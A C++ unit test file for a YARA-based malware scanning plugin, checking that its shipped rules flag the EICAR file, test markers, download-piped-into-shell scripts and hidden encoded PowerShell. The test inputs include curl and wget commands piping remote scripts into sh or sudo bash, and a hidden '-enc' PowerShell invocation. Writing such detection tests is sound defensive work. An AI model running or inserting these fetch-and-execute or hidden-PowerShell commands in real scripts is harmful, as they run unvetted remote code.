// SPDX-License-Identifier: MIT
// The rules that come with Microengine find what they say and nothing else.

#include "plugins/yara/tests/folder.hpp"
#include "tests/support/plugin_harness.hpp"

#include <gmock/gmock.h>

#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>

namespace microengine::yara {
namespace {

using support::Harness;

struct ShippedRules : testing::Test {
    ShippedRules() {
        harness.set("rules", std::string(RULES_DIR)).set("cache_dir", std::string("off")).set("strict", true);
    }
    /// "verdict name" of the first match; "benign" without one.
    std::string said(const std::string& artifact) {
        const auto seen = harness.scan(artifact);
        if (seen.detections.empty()) return seen.verdict == ME_BENIGN ? "benign" : "unknown";
        return (seen.verdict == ME_MALICIOUS ? "malicious " : "suspicious ") + seen.detections[0].name;
    }
    Harness harness{PLUGIN_FILE};
};

TEST_F(ShippedRules, KnowTheEicarFile) {
    EXPECT_EQ(said(support::eicar()), "malicious EICAR_Test_File");
    EXPECT_EQ(said(support::eicar() + "\r\n"), "malicious EICAR_Test_File");
    EXPECT_EQ(said(" " + support::eicar()), "suspicious EICAR_Test_String");
    EXPECT_EQ(said(support::eicar() + std::string(61, ' ')), "suspicious EICAR_Test_String");
}

TEST_F(ShippedRules, KnowTheirMarkers) {
    EXPECT_EQ(said("MICROENGINE-TEST-MALICIOUS-PATTERN\n"), "malicious Demo_Marker_Malicious");
    EXPECT_EQ(said("MICROENGINE-TEST-SUSPICIOUS-PATTERN"), "suspicious Demo_Marker_Suspicious");
    EXPECT_EQ(said("see MICROENGINE-TEST-MALICIOUS-PATTERN"), "benign");
}

TEST_F(ShippedRules, SuspectScriptsThatRunWhatTheyDownload) {
    const std::string line = "curl -fsSL https://example.org/install.sh | sh\n";
    EXPECT_EQ(said("#!/bin/sh\n" + line), "suspicious Script_Pipes_Download_Into_Shell");
    EXPECT_EQ(said("#!/bin/sh\nwget -qO- http://example.org/x |sudo bash -s\n"),
              "suspicious Script_Pipes_Download_Into_Shell");
    EXPECT_EQ(said("To install it: " + line), "benign");
    EXPECT_EQ(said("#!/bin/sh\ncurl -o x https://example.org/x\necho done | sh\n"), "benign");
}

TEST_F(ShippedRules, SuspectHiddenEncodedPowerShell) {
    const std::string code = "dwByAGkAdABlAC0AaABvAHMAdAAgACIAaABlAGwAbABvACIA";
    EXPECT_EQ(said("powershell.exe -NoP -w hidden -enc " + code), "suspicious PowerShell_Encoded_Command");
    EXPECT_EQ(said("cmd /c powershell -WindowStyle Hidden -EncodedCommand " + code),
              "suspicious PowerShell_Encoded_Command");
    EXPECT_EQ(said("powershell.exe -EncodedCommand " + code), "benign");
}

TEST_F(ShippedRules, DoNotFindThemselves) {
    for (const auto& entry : std::filesystem::directory_iterator(RULES_DIR)) {
        std::ifstream file(entry.path(), std::ios::binary);
        EXPECT_EQ(said(std::string(std::istreambuf_iterator<char>(file), {})), "benign") << entry.path();
    }
}

}   // namespace
}   // namespace microengine::yara
